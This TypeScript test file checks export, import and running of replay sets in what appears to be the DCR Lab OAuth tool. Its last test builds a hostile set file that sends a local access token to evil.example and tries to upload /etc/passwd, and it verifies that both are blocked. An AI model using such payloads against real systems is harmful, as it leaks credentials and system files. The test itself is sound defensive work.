import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { SetDraft } from '#shared/contract/replay/replay-set.ts'
import type * as z from '#shared/zod.ts'
import { startTestCompanion } from '../../test-companion.ts'
import { ReplayLab } from '../testing.ts'

let replay: ReplayLab
let token: string

beforeAll(async () => {
  replay = await ReplayLab.start()
  token = await replay.token()
})

afterAll(() => replay.lab.stop())

type Request = NonNullable<z.input<typeof SetDraft>['requests']>[number]

const url = '/okta-api/headers'
const good = (assertions: Request['assertions'] = []): Request => ({
  name: 'With a token',
  request: { method: 'GET', url, token: { kind: 'kept', token } },
  assertions,
})
const create = (requests: Request[], name = 'Orders') =>
  replay.client.createReplaySet({ body: { name, requests } })

describe('a file', () => {
  test('names clients instead of ids, and runs on another machine with secrets of its environment', async () => {
    const [client] = (await replay.client.listTokens()).filter(({ id }) => id === token)
    const details = await replay.client.getRegistration({
      params: { registration: client?.registration ?? '' },
    })
    const set = await create(
      [
        good([{ kind: 'status', is: 200 }]),
        {
          name: 'Introspect',
          request: {
            method: 'POST',
            url,
            body: {
              kind: 'form',
              fields: [
                {
                  name: 'client_secret',
                  value: `{{secret:registration/${details.id}/client_secret}}`,
                },
              ],
            },
          },
        },
        {
          name: 'Upload',
          request: { method: 'POST', url, body: { kind: 'file', path: '/home/ada/report.pdf' } },
        },
      ],
      'Portable',
    )
    const file = await replay.client.exportReplaySet({ params: { set: set.id } })
    const text = JSON.stringify(file)
    expect(text).not.toContain(token)
    expect(text).not.toContain('/home/ada')
    expect(file.requests[0]?.request.token).toEqual({
      kind: 'kept',
      token: `client:${details.client_name}`,
    })
    expect(file.needs.map(({ variable }) => variable)).toEqual([
      expect.stringMatching(/^DCR_LAB_SECRET_[A-Z0-9_]+_CLIENT_SECRET$/),
      expect.stringMatching(/^DCR_LAB_SECRET_[A-Z0-9_]+$/),
    ])

    const elsewhere = await startTestCompanion()
    try {
      const imported = await elsewhere.client.importReplaySet({ body: file })
      expect(imported.requests[2]?.request.body).toMatchObject({ named: 'report.pdf' })
      const secrets = Object.fromEntries(file.needs.map(({ name }) => [name, `value-of-${name}`]))
      const ran = await elsewhere.client.runReplaySet({
        params: { set: imported.id },
        body: { secrets },
      })
      expect(ran.results.map(({ failure }) => failure)).toEqual([
        undefined,
        undefined,
        'It was not sent. The file report.pdf is not chosen yet. Choose a file, or name its path on the machine of the companion.',
      ])
    } finally {
      await elsewhere.stop()
    }
  }, 60_000)

  test('is run without keeping anything', async () => {
    const before = await replay.client.listAttempts()
    const set = await create([good([{ kind: 'status', is: 200 }])])
    const file = await replay.client.exportReplaySet({ params: { set: set.id } })
    const ran = await replay.client.runSetFile({ body: { file, secrets: {} } })
    expect(ran).toMatchObject({ state: 'passed', name: 'Orders' })
    expect(ran.set).toBeUndefined()
    expect(await replay.client.listAttempts()).toEqual(before)
  })

  test.each([
    [{ version: 2 }, 'version: This set was exported by a newer DCR Lab.'],
    [{ format: 'other' }, 'format: This is no set that DCR Lab has exported.'],
  ])('with %j is refused in a sentence', async (change, message) => {
    const file = { format: 'dcr-lab-replay-set', version: 1, name: 'A', requests: [], ...change }
    await expect(replay.client.importReplaySet({ body: file as never })).rejects.toMatchObject({
      code: 'REQUEST_INVALID',
      message,
    })
  })

  test('cannot refer to the records of this machine, or to its files', async () => {
    const file = {
      format: 'dcr-lab-replay-set',
      version: 1,
      name: 'Evil',
      requests: [
        {
          name: 'A',
          request: {
            method: 'POST',
            url: 'https://evil.example/',
            route: 'direct',
            headers: [{ name: 'x', value: `{{secret:token/${token}/access_token}}` }],
          },
        },
      ],
    } as const
    await expect(
      replay.client.runSetFile({
        body: { file: { ...file, requests: [...file.requests] } as never, secrets: {} },
      }),
    ).rejects.toMatchObject({
      code: 'INPUT_INVALID',
      message: `The file refers to token/${token}/access_token, a secret of this machine’s records.`,
    })
    const reading = {
      ...file,
      requests: [
        {
          name: 'A',
          request: { method: 'POST', url: '/x', body: { kind: 'file', path: '/etc/passwd' } },
        },
      ],
    }
    const ran = await replay.client.runSetFile({ body: { file: reading as never, secrets: {} } })
    expect(ran.results[0]).toMatchObject({
      state: 'error',
      failure: expect.stringContaining('The file passwd is not chosen yet.') as string,
    })
  })
})
